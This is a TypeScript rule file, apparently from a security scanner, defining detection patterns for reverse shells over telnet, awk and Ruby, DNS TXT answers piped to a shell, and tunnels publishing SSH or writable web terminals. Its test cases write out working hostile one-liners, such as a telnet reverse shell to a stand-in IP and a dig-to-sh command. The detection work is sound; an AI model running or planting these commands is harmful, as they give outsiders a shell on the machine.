/** RC-05: shells that tunnels, terminals on the web and one-line programs open to others. */
import { fenced, inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import type { Severity } from '../../../schema/vocabulary.ts';

const run = ['script', 'fence', 'list', 'prose', 'config', 'decoded', 'hidden', 'comment'] as const;

/** Outside of programs, a reference may show such a command: a reader has to look. */
const byKind = ({ region, severity }: RowHit): Severity =>
  region.kind === 'script' ||
  region.kind === 'decoded' ||
  region.kind === 'hidden' ||
  region.kind === 'config'
    ? severity
    : 'medium';

/** Rows of RC-05. */
export const openedShells: readonly Row[] = [
  row('a shell between two connections of telnet, awk or Ruby', {
    in: run,
    within: 'line',
    sign: /telnet|\/inet\/tcp|-rsocket/,
    match: exactPattern(
      raw(
        String.raw`\btelnet\s[^\n|]{3,80}\|\s{0,3}(?:\/bin\/)?(?:ba|z|da)?sh\b\s{0,3}\||\/inet\/tcp\/0\/[^\n]{4,80}\bgetline\b[^\n]{0,120}\|\s?&|`,
      ),
      raw(String.raw`\bruby\s{1,3}-rsocket\b[^\n]{0,120}TCPSocket[^\n]{0,160}(?:popen|exec|system|\x60)`),
    ),
    severity: 'critical',
    catches: [fenced('sh', 'telnet 198.51.100.7 4443 | /bin/sh | telnet 198.51.100.7 4444')],
    spares: [fenced('sh', 'telnet mail.acme.example 25')],
  }),
  row('answers of a name server are run as commands', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\b(?:dig|host|nslookup|drill)\b[^\n|]{0,80}\b(?:txt|TXT)\b[^\n|]{0,80}(?:\|[^\n|]{0,60}){0,4}\|\s{0,3}(?:ba|z|da)?sh\b`,
      ),
    ),
    severity: 'critical',
    catches: [fenced('sh', "dig +short TXT notes.relay.invalid | tr -d '\"' | sh")],
    spares: [fenced('sh', 'dig +short TXT acme.example | sort')],
  }),
  row('a terminal or the SSH port of the machine is published by a tunnel', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\bautossh\b[^\n]{0,80}\s-R\s{0,2}[\w.:]{3,60}:22\b|\bcloudflared\s{1,3}tunnel\b[^\n]{0,80}--url\s{1,3}(?:ssh|tcp):\/\/(?:localhost|127\.0\.0\.1):22\b|`,
      ),
      raw(
        String.raw`\b(?:gs-netcat|gsocket)\b[^\n]{0,40}\s-\w{0,3}[li]\w{0,3}\b|\b(?:tmate|upterm|sshx)\b[^\n|]{0,60}\|\s{0,3}(?:curl|wget|nc)\b|`,
      ),
      raw(String.raw`\bttyd\b[^\n]{0,60}\s(?:-W|--writable)\b[^\n]{0,40}\b(?:bash|sh|zsh|login)\b|`),
      raw(
        String.raw`\btailscale\s{1,3}up\b[^\n]{0,80}(?:--auth-?key[= ]tskey-[^\n]{0,120}--ssh|--ssh[^\n]{0,80}--auth-?key[= ]tskey-)`,
      ),
    ),
    severity: 'critical',
    weigh: byKind,
    catches: [
      inFile('scripts/a.sh', 'cloudflared tunnel --url ssh://localhost:22 --no-autoupdate &'),
      inFile('scripts/a.sh', 'ttyd -p 7681 -W bash &'),
    ],
    spares: [
      inFile('scripts/a.sh', 'cloudflared tunnel --url http://localhost:3000'),
      inFile('scripts/a.sh', 'tailscale up --ssh'),
    ],
  }),
];
